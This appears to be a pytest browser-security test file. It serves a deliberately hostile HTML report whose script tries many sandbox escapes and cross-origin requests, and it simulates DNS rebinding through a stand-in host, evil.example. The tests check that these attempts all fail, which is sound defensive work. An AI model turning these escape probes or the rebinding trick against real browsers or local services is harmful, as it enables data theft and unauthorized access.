"""Hostile pages in a real browser: a report that tries every way out of its sandbox, another site's page, a name that
someone points at this machine.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from tests.browsing import CHROMIUM
from tests.studio.conftest import Look, Served, wait

from striate.studio.session import Document

pytestmark = pytest.mark.browser

# Each way out notes its name when it worked. `OUT` is another server, `OWN` the studio.
REPORT = """<!doctype html><title>A run</title><h1>A run</h1><div id="here"></div>
<form id="form" method="post" action="OWN/api/about"><input name="x"></form>
<form id="out" action="OUT/form"></form>
<link rel="stylesheet" href="OUT/style.css"><link rel="prefetch" href="OUT/prefetch"><link rel="icon" href="OUT/icon">
<img src="OUT/img.png"><video src="OUT/clip.mp4"></video><object data="OUT/object"></object><embed src="OUT/embed">
<iframe src="OUT/frame"></iframe><iframe src="OWN/"></iframe><script src="OUT/script.js"></script>
<script src="OWN/assets/main.js"></script>
<style>@import url("OUT/import.css"); body { background: url("OUT/bg.png") }</style>
<script>
const got = [], tries = [];
const attempt = (name, action) =>
  tries.push((async () => { try { if (await action() !== false) got.push(name); } catch {} })());
const hear = (from, ...names) => new Promise((yes, no) => {
  for (const name of names) from["on" + name] = yes;
  from.onerror = no;
});
for (const at of ["OWN", "OUT"]) {
  attempt("fetch " + at, () => fetch(at + "/api/about", {method: "POST", credentials: "include", body: "{}"}));
  attempt("no-cors " + at, () => fetch(at + "/api/about", {mode: "no-cors", credentials: "include"}));
  attempt("xhr " + at, () => {
    const asked = new XMLHttpRequest(), heard = hear(asked, "load");
    asked.open("GET", at + "/");
    asked.send();
    return heard;
  });
  attempt("events " + at, () => hear(new EventSource(at + "/events"), "open", "message"));
  attempt("socket " + at, () => hear(new WebSocket(at.replace("http", "ws")), "open", "message"));
  attempt("import " + at, () => import(at + "/assets/call.js"));
  attempt("worker " + at, () => hear(new Worker(at + "/assets/call.js"), "message"));
  navigator.sendBeacon?.(at + "/beacon", "x");
  attempt("window " + at, () => open(at + "/") !== null);
}
attempt("cookie", () => document.cookie !== "" );
attempt("storage", () => localStorage.length >= 0);
attempt("session", () => sessionStorage.length >= 0);
attempt("database", () => hear(indexedDB.open("a"), "success"));
attempt("parent", () => parent !== window && parent.document.body !== null);
attempt("opener", () => opener !== null && opener.document.body !== null);
attempt("top", () => { if (top === window) return false; top.location = "OUT/top"; return false; });
attempt("form", () => { document.getElementById("form").submit(); return false; });
attempt("out", () => { document.getElementById("out").submit(); return false; });
attempt("eval", () => eval("1") === 1);
attempt("dialog", () => { alert("x"); return false; });
Promise.race([Promise.allSettled(tries), new Promise((done) => setTimeout(done, 3000))])
  .then(() => { document.title = "done " + JSON.stringify([origin, got]); parent.postMessage(document.title, "*"); });
</script>"""


class Out(BaseHTTPRequestHandler):
    """Another local server, that notes who asks."""

    came: list[str]

    def do_GET(self) -> None:
        self.came.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"<p>elsewhere")

    do_POST = do_GET  # noqa: N815 - http.server's name

    def log_message(self, format: str, *arguments: object) -> None:
        pass


@pytest.fixture
def out() -> Iterator[tuple[str, list[str]]]:
    """Another server's address, and the paths that it was asked for."""
    came: list[str] = []
    with ThreadingHTTPServer(("127.0.0.1", 0), type("Noting", (Out,), {"came": came})) as server:
        thread = Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", came
        server.shutdown()
        thread.join()


def show(served: Served, elsewhere: str) -> str:
    own = f"http://127.0.0.1:{served.port}"
    return f"/view/{served.session.show(Document(REPORT.replace('OWN', own).replace('OUT', elsewhere).encode()))}"


@pytest.mark.parametrize("place", ["frame", "tab"])
def test_a_hostile_report_gets_nothing(framed: Served, look: Look, out: tuple[str, list[str]], place: str) -> None:
    elsewhere, came = out
    seen = look(framed)
    page, path, before = seen.page, show(framed, elsewhere), len(framed.lines)
    if place == "frame":
        page.evaluate("() => addEventListener('message', (news) => (window.told = news.data))")
        page.evaluate(f"() => document.body.append(Object.assign(document.createElement('iframe'), {{src: '{path}'}}))")
        wait(page, "window.told")
        told = page.evaluate("window.told")
    else:
        with page.context.expect_page() as opened:
            link = f"Object.assign(document.createElement('a'), {{href: '{path}', target: '_blank', rel: 'noopener'}})"
            page.evaluate(f"() => {{ const a = {link}; document.body.append(a); a.click(); }}")
        wait(opened.value, "document.title.startsWith('done')")
        told = opened.value.title()
        assert len(page.context.pages) == 2
    assert json.loads(told.removeprefix("done ")) == ["null", []]
    assert came == []
    assert framed.lines[before:] == []  # nothing of it even left the browser
    assert page.url.startswith(f"http://127.0.0.1:{framed.port}/")


def test_a_name_that_points_at_this_machine_opens_nothing(framed: Served, browser: Any) -> None:
    """DNS rebinding: the browser takes the studio for the other site, cookies and all."""
    rules = ["--no-sandbox", "--disable-gpu", "--host-resolver-rules=MAP evil.example 127.0.0.1"]
    link, before = framed.link, len(framed.lines)
    chromium = browser.browser_type.launch(executable_path=str(CHROMIUM), args=rules)
    page = chromium.new_page()
    answer = page.goto(link.replace("127.0.0.1", "evil.example"))
    assert answer.status == 403
    assert page.context.cookies() == []
    assert page.evaluate("fetch('/api/about', {method: 'POST', body: '{}'}).then((a) => a.status, () => 0)") in (0, 403)
    assert page.goto(link).status == 200  # it wasn't used up
    chromium.close()
    assert "evil.example" in framed.lines[before]
    assert {line.split()[1] for line in framed.lines[before:]} <= {"host", "cookie"}
